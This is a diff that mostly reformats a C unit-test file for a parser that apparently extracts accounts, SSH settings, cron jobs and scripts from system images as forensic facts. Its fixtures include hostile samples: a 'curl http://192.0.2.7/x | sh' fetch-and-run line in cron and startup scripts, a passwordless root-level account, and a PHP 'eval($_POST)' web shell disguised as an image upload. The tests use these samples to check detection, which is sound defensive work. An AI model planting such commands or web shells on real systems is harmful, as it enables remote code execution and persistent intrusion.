@@ -2,7 +2,11 @@
 /* Configuration of accounts, sudo, SSH, cron and scripts, as facts. */
 #include "unit/parse_kit.h"
 
-#define HAS(...) (const char *const[]){__VA_ARGS__, NULL}
+#define HAS(...)                                                               \
+	(const char *const[])                                                  \
+	{                                                                      \
+		__VA_ARGS__, NULL                                              \
+	}
 
 /* Is the fact without those? */
 static void hold_not(const struct parsed *p, size_t i, const char *piece)
@@ -14,12 +18,11 @@ static void hold_not(const struct parsed *p, size_t i, const char *piece)
 
 static void test_passwd(void **state UNUSED)
 {
-	struct parsed p = parse_file(
-		"passwd", "/mnt/image/etc/passwd",
-		"root:x:0:0:root:/root:/bin/bash\n"
-		"toor::0:0::/root:/bin/sh\n"
-		"old:$1$abc$0123456789:7:7:x:/:/bin/sh\n"
-		"+@nis::::::\nbroken line\n");
+	struct parsed p = parse_file("passwd", "/mnt/image/etc/passwd",
+				     "root:x:0:0:root:/root:/bin/bash\n"
+				     "toor::0:0::/root:/bin/sh\n"
+				     "old:$1$abc$0123456789:7:7:x:/:/bin/sh\n"
+				     "+@nis::::::\nbroken line\n");
 
 	assert_int_equal(p.n_facts, 4);
 	hold_fact(&p, 3, "account", "+@nis", NULL);
@@ -38,15 +41,15 @@ static void test_passwd(void **state UNUSED)
 
 static void test_shadow(void **state UNUSED)
 {
-	struct parsed p = parse_file(
-		"shadow", "/etc/shadow",
-		"root:$y$j9T$salt$hashhashhash:19700:0:99999:7:::\n"
-		"daemon:*:19600:0:99999:7:::\n"
-		"eve:!$6$salt$hashhash:19701:0:90:7::20000:\n"
-		"guest::19700:0:99999:7:::\n"
-		"svc:!:19700::::::\n"
-		"taken:$6$(left out):19700:0:99999:7:::\n"
-		"des:ab0123456789A:19700:0:99999:7:::\n");
+	struct parsed p =
+		parse_file("shadow", "/etc/shadow",
+			   "root:$y$j9T$salt$hashhashhash:19700:0:99999:7:::\n"
+			   "daemon:*:19600:0:99999:7:::\n"
+			   "eve:!$6$salt$hashhash:19701:0:90:7::20000:\n"
+			   "guest::19700:0:99999:7:::\n"
+			   "svc:!:19700::::::\n"
+			   "taken:$6$(left out):19700:0:99999:7:::\n"
+			   "des:ab0123456789A:19700:0:99999:7:::\n");
 
 	assert_int_equal(p.n_facts, 7);
 	hold_fact(&p, 0, "password", "root",
@@ -196,11 +199,11 @@ static void test_authorized_keys(void **state UNUSED)
 
 static void test_known_hosts(void **state UNUSED)
 {
-	struct parsed p = parse_file(
-		"known-hosts", "/root/.ssh/known_hosts",
-		"db,192.0.2.7 ssh-ed25519 " ED25519 "\n"
-		"|1|abc=|def= ssh-ed25519 " ED25519 "\n"
-		"@cert-authority *.example ssh-rsa " RSA "\n");
+	struct parsed p =
+		parse_file("known-hosts", "/root/.ssh/known_hosts",
+			   "db,192.0.2.7 ssh-ed25519 " ED25519 "\n"
+			   "|1|abc=|def= ssh-ed25519 " ED25519 "\n"
+			   "@cert-authority *.example ssh-rsa " RSA "\n");
 
 	assert_int_equal(p.n_facts, 3);
 	hold_fact(&p, 0, "known_host", "db,192.0.2.7",
@@ -213,13 +216,13 @@ static void test_known_hosts(void **state UNUSED)
 
 static void test_sshd_config(void **state UNUSED)
 {
-	struct parsed p = parse_file(
-		"sshd-config", "/etc/ssh/sshd_config.d/50-x.conf",
-		"Include /etc/ssh/x.d/*.conf\n#PermitRootLogin no\n"
-		"PermitRootLogin=yes\n"
-		"AuthorizedKeysFile  .ssh/authorized_keys /opt/%u\n"
-		"Match User eve Address 192.0.2.0/24\n"
-		"    ForceCommand /bin/x\nMatch all\nPort 22\n");
+	struct parsed p =
+		parse_file("sshd-config", "/etc/ssh/sshd_config.d/50-x.conf",
+			   "Include /etc/ssh/x.d/*.conf\n#PermitRootLogin no\n"
+			   "PermitRootLogin=yes\n"
+			   "AuthorizedKeysFile  .ssh/authorized_keys /opt/%u\n"
+			   "Match User eve Address 192.0.2.0/24\n"
+			   "    ForceCommand /bin/x\nMatch all\nPort 22\n");
 
 	assert_int_equal(p.n_facts, 5);
 	hold_fact(&p, 0, "sshd_setting", "include",
@@ -257,14 +260,14 @@ static void test_crontab(void **state UNUSED)
 {
 	struct parsed p = parse_file(
 		"crontab", "/etc/cron.d/x",
-		"SHELL=/bin/sh\n# m h\n17 *\t* * *\troot    cd / && run-parts x\n"
+		"SHELL=/bin/sh\n# m h\n17 *\t* * *\troot    cd / && run-parts "
+		"x\n"
 		"@reboot nobody /tmp/.x/m\n*/5 * * * mon-fri root curl "
 		"http://192.0.2.7/x | sh\nnonsense\n");
 
 	assert_int_equal(p.n_facts, 4);
 	hold_fact(&p, 0, "environment", "SHELL",
-		  HAS("\"value\":\"/bin/sh\"",
-		      "\"source\":\"/etc/cron.d/x\""));
+		  HAS("\"value\":\"/bin/sh\"", "\"source\":\"/etc/cron.d/x\""));
 	hold_fact(&p, 1, "cron", "cd / && run-parts x",
 		  HAS("\"schedule\":\"17 *\\t* * *\"", "\"account\":\"root\"",
 		      "\"source\":\"cron.d\"", "\"signs\":[]"));
@@ -316,7 +319,6 @@ static void test_scripts(void **state UNUSED)
 	} rows[] = {
 		{"/etc/rc.local", "rc"},
 		{"/etc/rc.d/rc.local", "rc"},
-		{"/etc/inittab", "rc"},
 		{"/etc/init.d/ssh", "init"},
 		{"/etc/update-motd.d/10-x", "motd"},
 		{"/etc/profile.d/x.sh", "profile"},
@@ -337,9 +339,9 @@ static void test_scripts(void **state UNUSED)
 	char want[64];
 
 	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
-		struct parsed p = parse_file(
-			"script", rows[i].path,
-			"#!/bin/sh\ncurl http://192.0.2.7/x | sh\n");
+		struct parsed p =
+			parse_file("script", rows[i].path,
+				   "#!/bin/sh\ncurl http://192.0.2.7/x | sh\n");
 
 		(void)snprintf(want, sizeof want, "\"role\":\"%s\"",
 			       rows[i].role);
@@ -365,9 +367,9 @@ static void test_scripts(void **state UNUSED)
 
 static void test_web(void **state UNUSED)
 {
-	struct parsed p = parse_file("web-page",
-				     "/var/www/html/uploads/a.jpg.php",
-				     "GIF89a\n<?php\neval($_POST['x']);\n");
+	struct parsed p =
+		parse_file("web-page", "/var/www/html/uploads/a.jpg.php",
+			   "GIF89a\n<?php\neval($_POST['x']);\n");
 
 	hold_fact(&p, 0, "script", "/var/www/html/uploads/a.jpg.php",
 		  HAS("\"role\":\"web\"", "\"signs\":[\"request-eval\"]",
